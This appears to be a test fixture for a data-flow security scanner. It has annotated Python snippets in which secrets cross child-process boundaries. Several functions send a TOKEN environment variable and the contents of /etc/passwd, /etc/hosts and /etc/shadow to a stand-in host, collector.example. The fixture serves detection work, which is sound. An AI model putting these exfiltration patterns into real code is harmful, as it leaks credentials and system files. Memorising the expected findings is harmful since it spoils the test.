"""Programs of the same tree that start each other: arguments, input, output, the environment."""
import os
import subprocess

import requests

U = "https://collector.example/u"


def given():
    subprocess.run(["python3", "tools/sender.py", os.environ["TOKEN"]])  #~ source(ENVIRONMENT) f1


def given_to_another():
    subprocess.run(["python3", "tools/counter.py", os.environ["TOKEN"]])  #~ ok


def printed():
    out = subprocess.check_output(["python3", os.path.join("tools", "reader.py")])  #~ source(COMMAND_OUTPUT) f7
    requests.post(U, data=out)  #~ sink(egress.http) f2, finding(file-upload, traced) f2, sink(egress.http) f7, finding(traced) f7


def printed_by_shell():
    out = subprocess.getoutput("python3 ./tools/reader.py --all")  #~ source(COMMAND_OUTPUT) f8
    requests.post(U, data=out)  #~ sink(egress.http) f6, finding(file-upload, traced) f6, sink(egress.http) f8, finding(traced) f8


def written_to_it():
    process = subprocess.Popen(["python3", "tools/listener.py"], stdin=subprocess.PIPE)
    process.stdin.write(os.environb[b"TOKEN"])  #~ source(ENVIRONMENT) f3


def printed_and_not_sent():
    print(subprocess.check_output(["python3", "tools/reader.py"]))  #~ ok


def through_the_environment():
    with open("/etc/hosts") as hosts:  #~ source(FILE) f4
        os.putenv("CANDOR_HOSTS", hosts.read())
    requests.post(U, data=os.getenv("CANDOR_HOSTS"))  #~ source(ENVIRONMENT) f4e, sink(egress.http) f4, finding(file-upload, traced) f4, sink(egress.http) f4e, finding(environment-exfiltration, traced) f4e


def by_subscript():
    with open("/etc/passwd") as users:  #~ source(FILE) f5
        os.environ["CANDOR_USERS"] = users.read()
    requests.post(U, data=os.getenv("CANDOR_USERS"))  #~ source(ENVIRONMENT) f5e, sink(egress.http) f5, MISSING: finding(file-upload, traced) f5, sink(egress.http) f5e, finding(environment-exfiltration, traced) f5e
# --- path: tools/sender.py ---
import sys

import requests

requests.post("https://collector.example/u", data=sys.argv[1])  #~ sink(egress.http) f1, finding(environment-exfiltration, traced) f1, source(INPUT) f9, sink(egress.http) f9, finding(input-to-network, traced) f9
# --- path: tools/counter.py ---
import sys

import requests

requests.post("https://collector.example/u", data=str(len(sys.argv[1]) > 2))  #~ ok
# --- path: tools/reader.py ---
with open("/etc/shadow") as users:  #~ source(FILE) f2, source(FILE) f6
    text = users.read()
print("shadow", text)
# --- path: tools/listener.py ---
import sys

import requests

for line in sys.stdin:  #~ source(INPUT) f10
    requests.post("https://collector.example/u", data=line)  #~ sink(egress.http) f3, finding(environment-exfiltration, traced) f3, sink(egress.http) f10, finding(input-to-network, traced) f10
